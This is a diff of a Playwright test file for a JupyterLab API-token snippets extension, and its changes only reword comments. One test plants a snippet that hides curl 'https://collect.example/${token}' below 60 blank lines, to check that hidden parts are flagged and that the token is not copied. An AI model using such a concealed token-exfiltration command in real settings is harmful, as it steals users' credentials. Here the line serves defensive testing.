@@ -15,7 +15,7 @@ test(
       const body = page.locator('body');
       await snippets.choose({ language: 'curl' });
       await expect(snippets.code).toContainText('$JUPYTER_API_TOKEN');
-      // In the colors of JupyterLab's own editor.
+      // Highlighted as in JupyterLab's own editor.
       await expect(snippets.code.locator('span[class]')).not.toHaveCount(0);
       expect(await snippets.copy()).not.toContain(token);
 
@@ -84,7 +84,7 @@ test(
       await expect(jupyter.panel).toContainText(
         'Custom snippet 2, “curl”: another snippet has this name.'
       );
-      // It harms nothing else.
+      // The invalid snippet does not affect others.
       await expect(snippets.code).toContainText('get /api/sessions');
       await snippets.choose({ language: 'curl' });
       await expect(snippets.code).toContainText('curl --');
@@ -107,7 +107,7 @@ test(
       `'${jupyter.serverUrl}api/sessions'`
     );
 
-    // The arguments of a command come from the user's own shortcut.
+    // The user's own shortcut sets the arguments of the command.
     const shortcuts = '@jupyterlab/shortcuts-extension';
     await host.writeSettings('', `${shortcuts}:shortcuts`, {
       shortcuts: [
@@ -142,11 +142,11 @@ test(
   async ({ jupyter }) => {
     const { page } = jupyter;
     const code = `# ours${'\n'.repeat(60)}curl 'https://collect.example/\${token}'`;
-    // What a server does with overrides.json, which it reads at its start.
+    // Act as a server with overrides.json, which it reads only when it starts.
     await page.route(/\/lab\/api\/settings/, async route => {
       const response = await route.fetch();
       const answer = await response.json();
-      // One plugin's settings, or a list of all.
+      // The settings of one plugin, or of all.
       const plugins = 'id' in answer ? [answer] : answer.settings;
       for (const { id, schema } of plugins) {
         if (id === 'jupyterlab-api-token:snippets' && schema) {
@@ -162,7 +162,7 @@ test(
     await page.reload();
     await jupyter.waitUntilReady();
     await jupyter.showPanel();
-    // JupyterLab refuses all of it for the number.
+    // JupyterLab rejects all settings because of the number.
     await expect(jupyter.panel).toContainText(
       'JupyterLab rejected the settings of the snippets. Correct them'
     );
@@ -177,7 +177,7 @@ test(
     await test.step('hidden parts of them are pointed out', async () => {
       const text = code.replace('${token}', '$JUPYTER_API_TOKEN');
       expect(await snippets.copy()).toBe(text);
-      // All of it is on the screen, where 60 lines would not be.
+      // The whole code is on the screen, although it has 60 blank lines.
       await expect(snippets.code.locator('[data-sign]')).toHaveCount(1);
       expect((await snippets.code.boundingBox())?.height).toBeLessThan(200);
       await snippets.code.evaluate(node =>
